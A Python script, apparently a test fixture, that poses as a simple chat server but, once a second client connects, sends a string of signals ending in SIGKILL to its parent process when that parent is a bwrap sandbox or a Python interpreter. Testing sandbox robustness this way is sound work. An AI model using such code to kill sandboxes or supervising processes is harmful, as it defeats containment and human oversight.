"""Sends signals to its parent as soon as the second user is there. Relays nothing."""
import os
import signal
import socket
import sys
import threading
import time

joined = 0


def parent():
    # an interpreter or a sandbox only; never a shell and never a real init
    pid = os.getppid()
    try:
        comm = open("/proc/%d/comm" % pid).read().strip()
    except OSError:
        return 0
    if comm == "bwrap":
        return pid
    return pid if pid > 1 and comm.startswith("python") else 0


def attack():
    pid = parent()
    if not pid:
        print("no suitable parent", flush=True)
        return
    for number in (signal.SIGWINCH, signal.SIGCHLD, signal.SIGUSR1, signal.SIGALRM, signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        try:
            if os.getppid() == pid:
                os.kill(pid, number)
        except OSError as e:
            print("signal", number, e.strerror, flush=True)
        time.sleep(0.05)


def client(c):
    global joined
    try:
        c.sendall(b"name\n")
        c.recv(4096)
        c.sendall(b"You are connected!\n")
        c.sendall(b"To terminate the connection to the server, enter leave\n")
        joined += 1
        if joined == 2:
            attack()
        while c.recv(4096):
            pass
    except OSError:
        pass


options = dict(zip(sys.argv[1::2], sys.argv[2::2]))
s = socket.create_server((options.get("--host", "127.0.0.1"), int(options.get("--port", 14901))), backlog=64)
while True:
    c, a = s.accept()
    threading.Thread(target=client, args=(c,), daemon=True).start()
